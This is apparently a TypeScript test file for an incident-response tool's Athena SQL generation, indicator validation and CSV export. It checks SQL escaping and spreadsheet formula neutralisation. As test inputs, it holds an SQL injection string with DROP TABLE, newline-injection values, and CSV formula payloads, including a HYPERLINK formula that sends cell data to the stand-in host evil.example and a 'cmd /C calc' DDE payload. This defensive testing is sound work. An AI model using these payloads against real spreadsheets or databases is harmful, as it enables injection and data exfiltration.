/**
 * The SQL irctl generates for `hunt` and `scope --source athena`: it parses with the same Trino
 * grammar as the saved queries (dt-sql-parser), reads only our tables and their columns, prunes
 * by the log_date partition of the window, and an attacker-written indicator cannot leave its
 * string literal. Indicator formats are checked before any SQL is built.
 */
import { CLOUDTRAIL_COLUMNS, PARTITION_KEYS } from '../../../stacks/detection/athena-tables';
import { DNS_QUERY_LOG_COLUMNS, DNS_QUERY_LOG_PARTITION_KEYS } from '../../../stacks/detection/dns-query-logs';
import { FLOW_LOG_FIELDS } from '../../../stacks/plumbing/flow-log-format';
import { ATHENA } from '../../../shared/names';
import { toCsv } from '../../../tooling/hunt/hunt';
import { checkIndicators, caseIndicators } from '../../../tooling/hunt/indicators';
import { attackerEventsQuery, huntQuery, sqlString } from '../../../tooling/hunt/sql';
import type { IndicatorClass, Inventory } from '../../../tooling/model';
import { validateTrino } from '../../detection/support/trino';

const window = { start: new Date('2026-08-30T22:15:00.123Z'), end: new Date('2026-12-01T01:00:00Z') };

/** Hostile-but-valid values: quotes, comment markers, semicolons, LIKE wildcards. */
const HOSTILE = "curl/8' OR '1'='1'; DROP TABLE cloudtrail; --";
const CASES: ReadonlyArray<{ name: string; cls: IndicatorClass; values: string[] }> = [
  { name: 'access keys', cls: 'access-key', values: ['AKIAEXAMPLE000000001', 'ASIAEXAMPLE000000002'] },
  { name: 'source IPs', cls: 'source-ip', values: ['203.0.113.7', '2001:db8::7'] },
  { name: 'hostile user agent', cls: 'user-agent', values: [HOSTILE, 'aws-cli/2.15.0 Python/3.11'] },
  { name: 'AMIs', cls: 'ami', values: ['ami-0123456789abcdef0'] },
  { name: 'hostile key pair name', cls: 'key-pair', values: ["miner's key -- x", 'kp_100%'] },
  { name: 'pool IPs', cls: 'pool-ip', values: ['198.51.100.23'] },
  { name: 'pool domains with LIKE wildcards', cls: 'pool-domain', values: ['xmr_pool.example.com', 'pool.supportxmr.com'] },
];

const built = CASES.map((c) => ({ ...c, query: huntQuery(c.cls, checkIndicators({ [c.cls]: c.values })[c.cls]!, window, 10_000)! }));
const scopeSql = attackerEventsQuery({ accessKeyIds: ['AKIAEXAMPLE000000001'], userNames: ["o'brien", 'svc-build'] }, window, 50_000);
const ROLE = 'arn:aws:iam::123456789012:role/ops-automation';
const roleSql = attackerEventsQuery({ accessKeyIds: [], userNames: ['ops-automation'], roleArns: [ROLE] }, window, 50_000);
let errors: Record<string, string[]>;
beforeAll(() => {
  errors = validateTrino([...built.map((b) => ({ name: b.name, sql: b.query.sql })), { name: 'scope', sql: scopeSql }, { name: 'scope:role', sql: roleSql }, { name: 'bad:control', sql: "SELECT 1 FROM cloudtrail WHERE x = 'a' AND" }]);
});

const COLUMNS: Record<string, Set<string>> = {
  [ATHENA.cloudtrailTable]: new Set([...CLOUDTRAIL_COLUMNS, ...PARTITION_KEYS].map((c) => c.name)),
  [ATHENA.flowLogsTable]: new Set([...FLOW_LOG_FIELDS.map((f) => f.column), ...PARTITION_KEYS].map((c) => (typeof c === 'string' ? c : c.name))),
  [ATHENA.dnsQueryLogsTable]: new Set([...DNS_QUERY_LOG_COLUMNS, ...DNS_QUERY_LOG_PARTITION_KEYS].map((c) => c.name)),
};
const withoutLiterals = (sql: string) => sql.replace(/'(?:[^']|'')*'/g, "''");

test.each(built.map((b) => [b.name, b] as const))('%s: parses as Trino SQL, on our table, pruned to the window', (name, b) => {
  expect(errors[name]).toEqual([]);
  expect(b.query.sql).toContain(`FROM ${b.query.table}\n`);
  expect(Object.keys(COLUMNS)).toContain(b.query.table);
  expect(b.query.sql).toContain("log_date BETWEEN '2026/08/30' AND '2026/12/01'");
  // Struct heads and selected names exist in the table (lambda parameter `a` aside).
  const heads = [...withoutLiterals(b.query.sql).matchAll(/(?<![.\w'"])([a-z_]+)\.[a-z]/g)].map((m) => m[1]!).filter((h) => h !== 'a');
  for (const head of heads) expect(COLUMNS[b.query.table]).toContain(head);
});

test('the parser still rejects broken SQL (the harness is live)', () => {
  expect(errors['bad:control']!.length).toBeGreaterThan(0);
});

test('scope --source athena: parses, matches keys and names as LookupEvents does, bounded by the window', () => {
  expect(errors.scope).toEqual([]);
  expect(scopeSql).toContain("useridentity.accesskeyid IN ('AKIAEXAMPLE000000001')");
  expect(scopeSql).toContain("element_at(split(useridentity.arn, '/'), -1) IN ('o''brien', 'svc-build')");
  expect(scopeSql).toContain("eventtime BETWEEN '2026-08-30T22:15:00Z' AND '2026-12-01T01:00:00Z'");
});

test('scope --source athena --principal <role ARN>: every session the role issued, whatever the session name', () => {
  expect(errors['scope:role']).toEqual([]);
  // An assumed-role event's ARN ends with the session name (assumed-role/ops-automation/nightly-sync): only the issuer names the role.
  expect(roleSql).toContain(`useridentity.sessioncontext.sessionissuer.arn IN ('${ROLE}')`);
});

test('an attacker-written value never leaves its literal: outside the literals, no trace of it', () => {
  const ua = built.find((b) => b.cls === 'user-agent')!.query.sql;
  expect(ua).toContain(sqlString(HOSTILE));
  const code = withoutLiterals(ua);
  expect(code).not.toMatch(/DROP|OR '1'|--|;/);
  const domains = built.find((b) => b.cls === 'pool-domain')!.query.sql;
  // `_` and `%` in a name are escaped in LIKE: xmr_pool must not match xmrXpool.
  expect(domains).toContain("LIKE '%.xmr\\_pool.example.com' ESCAPE '\\'");
});

test('sqlString doubles quotes and refuses control characters', () => {
  expect(sqlString("a'b")).toBe("'a''b'");
  expect(() => sqlString('a\nb')).toThrow(/control character/);
});

test('UserData hashes get no query: no log holds UserData', () => {
  expect(huntQuery('user-data-sha256', ['a'.repeat(64)], window, 10)).toBeUndefined();
});

const BAD: ReadonlyArray<{ name: string; cls: IndicatorClass; value: string; message: RegExp }> = [
  { name: 'short key', cls: 'access-key', value: 'AKIA123', message: /--access-key "AKIA123" is not an access key ID/ },
  { name: 'secret key pasted', cls: 'access-key', value: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', message: /--access-key/ },
  { name: 'CIDR as IP', cls: 'source-ip', value: '203.0.113.0/24', message: /--source-ip "203.0.113.0\/24" is not an IPv4 or IPv6 address/ },
  { name: 'AMI typo', cls: 'ami', value: 'ami-xyz', message: /--ami "ami-xyz" is not an AMI ID/ },
  { name: 'URL as domain', cls: 'pool-domain', value: 'stratum+tcp://pool.example.com:3333', message: /--pool-domain .* is not a DNS name/ },
  { name: 'newline in user agent', cls: 'user-agent', value: 'curl\nInjected', message: /--user-agent .* printable ASCII/ },
  { name: 'md5 as sha256', cls: 'user-data-sha256', value: 'd41d8cd98f00b204e9800998ecf8427e', message: /--user-data-sha256 .* 64 hexadecimal/ },
];

test.each(BAD.map((b) => [b.name, b] as const))('rejects %s by format, with the fix', (_, b) => {
  expect(() => checkIndicators({ [b.cls]: [b.value] })).toThrow(b.message);
  expect(() => checkIndicators({ [b.cls]: [b.value] })).toThrow(/Fix: correct or drop this value; nothing was queried\./);
});

test('every bad value is reported at once; good ones are normalized and de-duplicated', () => {
  expect(() => checkIndicators({ ami: ['ami-1'], 'pool-ip': ['300.1.1.1'] })).toThrow(/--ami "ami-1".*; --pool-ip "300\.1\.1\.1".*these values/);
  expect(checkIndicators({ 'pool-domain': ['Pool.Example.COM.', 'pool.example.com'] })).toEqual({ 'pool-domain': ['pool.example.com'] });
});

test("the case's own indicators: the attacker's keys, IPs and agents, attributed key pairs and AMIs; AWS service callers dropped", () => {
  const inventory = {
    events: [
      { region: 'us-east-1', eventId: '1', eventTime: '', eventName: 'RunInstances', eventSource: '', accessKeyId: 'AKIAEXAMPLE000000001', sourceIp: '203.0.113.7', userAgent: 'aws-cli/2.15.0', resources: [] },
      { region: 'us-east-1', eventId: '2', eventTime: '', eventName: 'CreateServiceLinkedRole', eventSource: '', sourceIp: 'autoscaling.amazonaws.com', userAgent: 'autoscaling.amazonaws.com', resources: [] },
    ],
    attributions: [
      { kind: 'image', region: 'us-east-1', id: 'ami-0123456789abcdef0', basis: 'cloudtrail', reason: '' },
      { kind: 'key-pair', region: 'us-east-1', id: 'key-0abc', basis: 'cloudtrail', reason: '' },
    ],
    keyPairs: [{ region: 'us-east-1', id: 'key-0abc', name: 'miner-key' }],
    instances: [],
  } as unknown as Inventory;
  expect(caseIndicators([{ subject: { kind: 'access-key', accessKeyId: 'AKIAEXAMPLE000000001' }, accountId: '1', facts: [], indicators: { 'pool-ip': ['198.51.100.23'] } }], inventory)).toEqual({
    'access-key': ['AKIAEXAMPLE000000001'],
    'source-ip': ['203.0.113.7'],
    'user-agent': ['aws-cli/2.15.0'],
    ami: ['ami-0123456789abcdef0'],
    'key-pair': ['miner-key'],
    'pool-ip': ['198.51.100.23'],
  });
});

// Attacker-controlled values (a user agent, a key pair name) reach a spreadsheet: a cell that
// starts with = + - @ tab or CR would run as a formula (OWASP CSV injection). Each is prefixed
// with a quote and quoted, so it reads as text; other cells are untouched.
test.each([
  { value: '=HYPERLINK("http://evil.example/?"&A1,"x")', expected: `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"` },
  { value: '+cmd|\' /C calc\'!A0', expected: `"'+cmd|' /C calc'!A0"` },
  { value: '-2+3', expected: `"'-2+3"` },
  { value: '@SUM(1+1)', expected: `"'@SUM(1+1)"` },
  { value: '\t=1', expected: `"'\t=1"` },
  { value: '\r=1', expected: `"'\r=1"` },
  { value: 'aws-cli/2.15.0', expected: 'aws-cli/2.15.0' },
  { value: 'a,b', expected: '"a,b"' },
])('CSV cell $value is neutralized as OWASP advises', ({ value, expected }) => {
  expect(toCsv(['c'], [[value]])).toBe(`c\r\n${expected}\r\n`);
});
